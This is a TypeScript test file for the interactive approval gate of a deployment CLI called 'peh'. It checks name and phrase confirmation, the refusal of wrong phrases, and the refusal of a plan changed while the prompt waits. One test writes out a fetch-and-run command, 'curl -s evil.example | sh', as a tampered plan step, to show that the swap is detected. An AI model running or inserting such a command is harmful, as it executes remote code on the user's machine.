// The interactive gate on a real pseudo-terminal (util-linux `script`): peh shows the plan and
// asks for a name and each risky phrase. Answers are typed when the prompt appears, not on a timer.
import { spawn } from "node:child_process";
import { copyFile, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { peh } from "../support/cli.js";
import { tempDir } from "../support/temp-dir.js";

const bin = fileURLToPath(new URL("../../dist/cli/main.js", import.meta.url));
const release = fileURLToPath(new URL("../../examples/release.yaml", import.meta.url));

/**
 * Runs `peh args` on a pty; answers each prompt (matched in the output) once, in order. An answer
 * may first run something outside the terminal (`meanwhile`), while the prompt waits.
 */
function onTerminal(cwd: string, args: string[], answers: [RegExp, string, (() => void)?][]): Promise<{ code: number | null; output: string }> {
  return new Promise((resolve) => {
    // `script` gives the pty no size; prompts need one to render their text on one line.
    const command = `stty cols 120 rows 50; ${[process.execPath, bin, ...args].map((part) => `'${part}'`).join(" ")}`;
    // Without PEH_ACTOR: peh asks for the name.
    const { PEH_ACTOR: _actor, ...env } = process.env;
    const child = spawn("script", ["-qec", command, "/dev/null"], {
      cwd,
      env: { ...env, TERM: "xterm", PEH_TRUST_ROOTS: "", XDG_CONFIG_HOME: join(cwd, ".config") },
    });
    let output = "";
    let next = 0;
    child.stdout.on("data", (chunk: Buffer) => {
      output += chunk.toString("utf8");
      const answer = answers[next];
      if (answer && answer[0].test(output.replace(/\x1b\[[0-9;?]*[A-Za-z]/g, ""))) {
        next++;
        answer[2]?.();
        child.stdin.write(`${answer[1]}\r`);
      }
    });
    child.on("close", (code) => resolve({ code, output }));
  });
}

describe("interactive gate", () => {
  it("approves a risky plan with the name and the typed phrase", async () => {
    const dir = await tempDir();
    try {
      await copyFile(release, join(dir.path, "release.yaml"));
      const result = await onTerminal(dir.path, ["run", "--from", "release.yaml", "--trust-root", "."], [
        [/Type your name to approve/, "ana"],
        [/Type "deploy 2\.4\.1 to production" to approve it/, "deploy 2.4.1 to production"],
      ]);
      expect(result.output).toContain("⚠ RISKY");
      expect(result.code).toBe(0);
      const show = JSON.parse(peh(["show", "--json"], { cwd: dir.path }).stdout) as { state: string; approved_version: number; history: { action: string; actor: string }[] };
      expect(show).toMatchObject({ state: "completed", approved_version: 1 });
      expect(show.history.find((h) => h.action === "approved")?.actor).toBe("ana");
    } finally {
      await dir.remove();
    }
  });

  it("refuses a wrong phrase typed at the prompt and approves nothing", async () => {
    const dir = await tempDir();
    try {
      await copyFile(release, join(dir.path, "release.yaml"));
      const result = await onTerminal(dir.path, ["run", "--from", "release.yaml"], [
        [/Type your name to approve/, "ana"],
        [/to approve it/, "yes"],
      ]);
      expect(result.code).toBe(2);
      expect(result.output).toContain("missing: deploy-prod");
      expect(JSON.parse(peh(["show", "--json"], { cwd: dir.path }).stdout)).toMatchObject({ state: "awaiting_approval", approved_version: null });
    } finally {
      await dir.remove();
    }
  });

  it("approves the version it showed: a modification while the prompt waits is refused, and nothing is approved", async () => {
    const dir = await tempDir();
    try {
      await copyFile(release, join(dir.path, "release.yaml"));
      const plan = await readFile(release, "utf8");
      await writeFile(join(dir.path, "evil.yaml"), plan.replace("> dist/index.js", "> dist/index.js && curl -s evil.example | sh"));
      const env = { PEH_TRUST_ROOTS: "", XDG_CONFIG_HOME: join(dir.path, ".config") };
      expect(peh(["plan", "--from", "release.yaml"], { cwd: dir.path, env }).code).toBe(0);
      let modified: { code: number | null; stderr: string } | undefined;
      const result = await onTerminal(dir.path, ["approve"], [
        [/Who approves\?/, "ana"],
        // The plan (version 1) is on the screen; mallory changes it from another terminal.
        [/Type "deploy 2\.4\.1 to production" to approve it/, "deploy 2.4.1 to production", () => (modified = peh(["modify", "--from", "evil.yaml", "--as", "mallory"], { cwd: dir.path, env }))],
      ]);
      expect(modified?.code, modified?.stderr).toBe(0);
      const show = JSON.parse(peh(["show", "--json"], { cwd: dir.path, env }).stdout) as { state: string; version: number; approved_version: number | null; history: { action: string }[] };
      expect(show.history.map((h) => h.action)).not.toContain("approved");
      expect(show).toMatchObject({ state: "awaiting_approval", version: 2, approved_version: null });
      expect(result.output).not.toContain("approved version");
      expect(result.code).toBe(4);
      expect(result.output.replace(/\s+/g, " ")).toMatch(/plan changed to version 2 \(by mallory\) after you reviewed version 1; nothing was approved/);
      expect(result.output).toContain("plan version 1");
      expect(result.output).not.toContain("curl");
    } finally {
      await dir.remove();
    }
  });
});
